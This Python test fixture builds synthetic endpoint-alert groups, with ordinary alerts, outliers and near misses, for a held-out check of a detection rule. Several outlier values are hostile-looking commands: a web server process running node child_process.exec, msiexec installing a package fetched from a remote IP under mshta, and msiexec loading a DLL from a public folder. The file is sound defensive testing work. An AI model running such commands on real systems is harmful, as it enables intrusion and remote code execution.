"""More groups like those of `outlier_cases`, held out: only looked at once the rule is final."""

import random

from tests.support.alert_groups import (
    BLOCKED,
    DETECTED,
    QUARANTINED,
    AlertGroupBuilder,
    Fields,
    Group,
    guid,
    letters,
    person,
)

DISK = "\\Device\\HarddiskVolume2"


def groups() -> list[Group]:
    """Return all groups, the same each time."""
    return [
        _licence_tool_on_a_share(),
        _node_of_developers(),
        _packages_through_msiexec(),
        _test_file_that_is_stopped(),
        _python_of_everyone(),
        _ticket_requests_of_a_scanner(),
    ]


def _licence_tool_on_a_share() -> Group:
    def at(share: str) -> Fields:
        return {
            "path": f"\\Device\\Mup\\{share}\\cad\\licence_tool.exe",
            "cmdline": f"\\\\{share}\\cad\\licence_tool.exe /renew",
        }

    def usual(rng: random.Random, number: int) -> Fields:
        return {**at(f"acme-fs{rng.randrange(1, 5):02}"), "user_name": person(rng), "parent": "explorer.exe"}

    copied = "Windows\\Tasks\\licence_tool.exe"
    return (
        AlertGroupBuilder("A licence tool on a share", usual)
        .ordinary(410)
        .outlier(
            "copied among the tasks, under a script host",
            path=f"{DISK}\\{copied}",
            cmdline=f"C:\\{copied}",
            parent="cscript.exe",
        )
        .outlier(
            "copied among the tasks, as SYSTEM",
            path=f"{DISK}\\{copied}",
            cmdline=f"C:\\{copied}",
            parent="svchost.exe",
            user_name="SYSTEM",
        )
        .near_miss("a server of higher number", **at("acme-fs27"))
        .near_miss("capitals", **at("ACME-FS02"))
        .near_miss("without a user", user_name=...)
        .group()
    )


def _node_of_developers() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user, version = person(rng), rng.choice(("20.11.1", "22.3.0"))
        folder = f"Users\\{user}\\AppData\\Local\\nvm\\v{version}"
        return {
            "path": f"{DISK}\\{folder}\\node.exe",
            "cmdline": (
                f'"C:\\{folder}\\node.exe" --max-old-space-size={rng.choice((2048, 4096))} '
                f"C:\\Users\\{user}\\.vscode\\server.js --pipe {letters(rng, 12)}"
            ),
            "user_name": user,
            "parent": "Code.exe",
            "tactic": "Execution",
        }

    path = "Users\\k.doe\\AppData\\Local\\nvm\\v24.0.0\\node.exe"
    return (
        AlertGroupBuilder("The runtime of developers", usual)
        .ordinary(380)
        .outlier(
            "a server's process runs a line",
            cmdline="node.exe -e \"require('child_process').exec('whoami')\"",
            parent="w3wp.exe",
        )
        .outlier(
            "from Temp",
            path=f"{DISK}\\Windows\\Temp\\node.exe",
            cmdline="C:\\Windows\\Temp\\node.exe C:\\Windows\\Temp\\a.js",
            parent="mshta.exe",
        )
        .near_miss("a new version", path=f"{DISK}\\{path}")
        .near_miss("the editor in capitals", parent="CODE.EXE")
        .near_miss(
            "a profile with its domain", path=f"{DISK}\\Users\\k.doe.ACME\\AppData\\Local\\nvm\\v20.11.1\\node.exe"
        )
        .group()
    )


def _packages_through_msiexec() -> Group:
    def package(cache: str, rng: random.Random) -> str:
        return f'msiexec.exe /i "C:\\Windows\\ccmcache\\{cache}\\client.msi" /qn TRANSFORMS={{{guid(rng)}}}.mst'

    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "path": f"{DISK}\\Windows\\System32\\msiexec.exe",
            "cmdline": package(letters(rng, 2).lower(), rng),
            "user_name": "SYSTEM",
            "parent": "CcmExec.exe",
            "tactic": "Defense Evasion",
        }

    return (
        AlertGroupBuilder("Packages through msiexec", usual)
        .ordinary(700)
        .outlier(
            "a package from the web, under mshta",
            cmdline="msiexec.exe /q /i http://203.0.113.4/a.msi",
            parent="mshta.exe",
            user_name="l.doe",
        )
        .outlier("a library instead of a package", cmdline="msiexec.exe /y C:\\Users\\Public\\a.dll")
        .near_miss("the account in French", user_name="AUTORITE NT\\SYSTEM")
        .near_miss(
            "capitals",
            cmdline=package("4x", random.Random(4)).upper(),
        )
        .near_miss("another disk", path="\\Device\\HarddiskVolume11\\Windows\\System32\\msiexec.exe")
        .group()
    )


def _test_file_that_is_stopped() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user = person(rng)
        path = f"Users\\{user}\\Desktop\\avtest-{rng.randrange(900)}.com"
        return {
            "path": f"{DISK}\\{path}",
            "cmdline": f"C:\\{path}",
            "user_name": user,
            "parent": "explorer.exe",
            "disposition": QUARANTINED,
        }

    return (
        AlertGroupBuilder("A test file that is quarantined", usual)
        .ordinary(150)
        .outlier("allowed to run", disposition=DETECTED)
        .outlier("another tactic", tactic="Impact", technique="Data Encrypted for Impact")
        .near_miss(
            "an old document without disposition",
            pattern_disposition=...,
            pattern_disposition_description=...,
            pattern_disposition_details=...,
        )
        .near_miss("a longer number", path=f"{DISK}\\Users\\m.doe\\Desktop\\avtest-1000427.com")
        .group()
    )


def _python_of_everyone() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        user = rng.choice((person(rng), "SYSTEM", "svc_ci"))
        folder = rng.choice(
            ("Python311", f"Users\\{user}\\venv\\Scripts", f"builds\\{letters(rng, 5)}", "ProgramData\\conda")
        )
        return {
            "path": f"{DISK}\\{folder}\\python.exe",
            "cmdline": f"python.exe {letters(rng, rng.randrange(3, 9))}.py --{letters(rng, 4)}",
            "user_name": user,
            "parent": rng.choice(
                ("cmd.exe", "explorer.exe", "agent.exe", "jenkins.exe", "pycharm64.exe", "svchost.exe")
            ),
            "disposition": rng.choice((DETECTED, BLOCKED)),
            "tactic": rng.choice(("Execution", "Discovery", "Machine Learning")),
        }

    return (
        AlertGroupBuilder("A language that everyone uses in their own way", usual)
        .ordinary(330)
        .near_miss("a parent seen once among many", parent="excel.exe")
        .near_miss("a folder seen once among many", path=f"{DISK}\\Temp\\python.exe")
        .group()
    )


def _ticket_requests_of_a_scanner() -> Group:
    def usual(rng: random.Random, number: int) -> Fields:
        return {
            "user_name": "svc_scan",
            "product": "idp",
            "type": "idp-user-endpoint-app-info",
            "name": "IdpManyTicketsAsked",
            "display_name": "An account asked for many tickets",
            "parent_details": ...,
            "pattern_disposition": ...,
            "pattern_disposition_description": ...,
            "pattern_disposition_details": ...,
            "tactic": "Credential Access",
        }

    return (
        AlertGroupBuilder("Ticket requests of a vulnerability scanner", usual, hashed=False)
        .ordinary(190)
        .outlier("a person asks for them", user_name="n.muster")
        .outlier("another service account asks for them", user_name="svc_print")
        .near_miss("the account with its domain", user_name="ACME\\svc_scan")
        .near_miss("without a user", user_name=...)
        .group()
    )
